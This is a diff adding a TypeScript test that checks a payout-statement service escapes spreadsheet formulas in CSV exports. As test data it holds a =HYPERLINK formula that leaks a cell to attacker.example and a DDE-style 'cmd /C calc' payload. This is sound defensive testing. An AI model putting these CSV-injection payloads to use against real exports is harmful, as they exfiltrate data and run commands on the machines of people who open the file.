@@ -283,6 +283,39 @@ describe('payout statements over HTTP', () => {
     expect((await ledger.http.get('/statements?partnerId=acme&format=csv').set(fiona()).expect(200)).text).toBe(csvBefore);
   });
 
+  it('escapes CSV cells a spreadsheet would run as formulas (a dispute reason, claim evidence), keeping negative amounts numeric', async () => {
+    const hyperlink = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")';
+    on('2026-01-02');
+    await publish(ruleSet({ mdf: { accrualRates: { registered: '0.10', silver: '0.10', gold: '0.10' } } }));
+    await enroll('acme');
+    await wonDeal('acme', 'd1', '2026-01-10', '10000.00');
+    await settle();
+    on('2026-01-25');
+    track(await ledger.http.post('/campaigns').set(partnerUser('acme')).send(campaignBody('c1', 'acme', [['m1', '500.00']])).expect(201));
+    track(await ledger.http.post('/campaigns/c1/approve').set(manager()).expect(200));
+    track(await ledger.http.post('/campaigns/c1/milestones/m1/complete').set(manager()).send({ evidence: 'Webinar held' }).expect(200));
+    const claim = { claimId: 'cl1', amount: '400.00', evidence: '@SUM(1+1)*cmd|" /C calc"!A0' };
+    track(await ledger.http.post('/campaigns/c1/claims').set(partnerUser('acme')).send(claim).expect(201));
+    track(await ledger.http.post('/campaigns/c1/claims/cl1/approve').set(manager()).expect(200));
+    await close('2026-Q1', '2026-04-02');
+    on('2026-04-03');
+    const q1Id = await issue('acme', '2026-Q1');
+    const d1Line = (await statement(q1Id)).lines.find((line) => line.commission?.dealId === 'd1')!.lineId;
+    track(await ledger.http.post(`/statements/${q1Id}/lines/${d1Line}/dispute`).set(partnerUser('acme')).send({ reason: hyperlink }).expect(200));
+    track(await ledger.http.post(`/statements/${q1Id}/lines/${d1Line}/resolve`).set(fiona()).send({ outcome: 'adjusted', adjustment: '-50.00' }).expect(200));
+    await close('2026-Q2', '2026-07-02');
+    on('2026-07-03');
+    const q2Id = await issue('acme', '2026-Q2');
+
+    const csv = await ledger.http.get(`/statements?partnerId=acme&format=csv&after=${last}`).set(fiona()).expect(200);
+    const rows = parseCsv(csv.text);
+    expect(rows.find((row) => row['kind'] === 'mdf_claim')).toMatchObject({ statement_id: q1Id, claim_evidence: `'${claim.evidence}`, amount: '400.00' });
+    expect(rows.find((row) => row['kind'] === 'adjustment')).toMatchObject({ statement_id: q2Id, dispute_reason: `'${hyperlink}`, amount: '-50.00' });
+    expect(csv.text).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    // The JSON view is data, not a spreadsheet: it keeps the text as the partner wrote it.
+    expect((await ledger.http.get(`/statements/${q1Id}`).set(fiona()).expect(200)).body.disputes[0].reason).toBe(hyperlink);
+  });
+
   it('a rule set that reaches back after a statement was issued: the next statement adjusts each issued line, linked to it and to the new computation', async () => {
     on('2026-01-02');
     await publish(ruleSet());
